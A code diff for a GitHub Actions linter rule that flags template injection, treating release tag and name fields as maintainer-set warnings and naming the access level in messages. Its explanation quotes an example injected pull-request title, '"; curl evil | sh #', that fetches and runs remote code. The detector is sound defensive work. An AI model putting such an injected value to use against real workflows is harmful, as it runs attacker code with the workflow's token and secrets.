@@ -6,7 +6,7 @@ rule! {
     code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
-    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) as a warning. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (an error with high confidence when the workflow can be called, since a caller may pass on anything; a warning with medium confidence when only `workflow_dispatch` starts it, which takes write access); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release) as a warning with medium confidence. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (an error with high confidence when the workflow can be called, since a caller may pass on anything; a warning with medium confidence when only `workflow_dispatch` starts it, which takes write access); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
@@ -44,10 +44,22 @@ fn maintainer_set(rest: &[&str]) -> bool {
         && !rest.contains(&"head_commit")
 }
 
-/// Whether a context path is one only maintainers set (see [`maintainer_set`]).
-fn set_by_maintainers(path: &[String]) -> bool {
+/// Who sets a field of `github.event` that no outsider can: people with write access (a release's
+/// tag, name and notes: only they publish one) or with triage access (see [`maintainer_set`]).
+fn maintainer_access(rest: &[&str]) -> Option<&'static str> {
+    if rest.first() == Some(&"release") && rest.len() > 1 {
+        return Some("write");
+    }
+    maintainer_set(rest).then_some("triage")
+}
+
+/// The access of whoever sets a context path only maintainers set (see [`maintainer_access`]).
+fn set_by_maintainers(path: &[String]) -> Option<&'static str> {
     let p: Vec<&str> = path.iter().map(String::as_str).collect();
-    matches!(p.as_slice(), ["github", "event", rest @ ..] if maintainer_set(rest))
+    match p.as_slice() {
+        ["github", "event", rest @ ..] => maintainer_access(rest),
+        _ => None,
+    }
 }
 
 /// How dangerous a context path is: `Some(High)`, `Some(Medium)`, or `None` when safe or unknown.
@@ -96,7 +108,7 @@ pub fn injection_risk(path: &[String]) -> Option<Confidence> {
                     // One of OWNER, MEMBER, COLLABORATOR, CONTRIBUTOR, FIRST_TIMER, NONE…
                     | "author_association"
             ) || (last == "name" && rest.len() >= 2 && matches!(rest[rest.len() - 2], "repo" | "repository"));
-            let maintainer_set = maintainer_set(rest);
+            let maintainer_set = maintainer_access(rest).is_some();
             if trusted_owner || safe_leaf || last.ends_with("_sha") {
                 None
             } else if maintainer_set {
@@ -201,9 +213,9 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                                     "`{}` is free text from whoever runs or calls the workflow and is expanded straight into `{what}:`",
                                     path.join(".")
                                 )
-                            } else if set_by_maintainers(path) {
+                            } else if let Some(access) = set_by_maintainers(path) {
                                 format!(
-                                    "`{}` is set by people with triage access and is expanded straight into `{what}:`",
+                                    "`{}` is set by people with {access} access and is expanded straight into `{what}:`",
                                     path.join(".")
                                 )
                             } else {
@@ -213,13 +225,15 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                                 )
                             },
                         )
-                        // Label names (triage access) and `workflow_dispatch`-only inputs (write
-                        // access) are not set by outsiders: a warning.
-                        .severity(if (input.is_none() && set_by_maintainers(path)) || (input.is_some() && !callable) {
-                            shipshape_core::Severity::Warning
-                        } else {
-                            meta().severity
-                        })
+                        // Label names (triage access), release fields and `workflow_dispatch`-only
+                        // inputs (write access) are not set by outsiders: a warning.
+                        .severity(
+                            if (input.is_none() && set_by_maintainers(path).is_some()) || (input.is_some() && !callable) {
+                                shipshape_core::Severity::Warning
+                            } else {
+                                meta().severity
+                            },
+                        )
                         .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
                         .confidence(confidence)
                         .maybe_fix(fix),
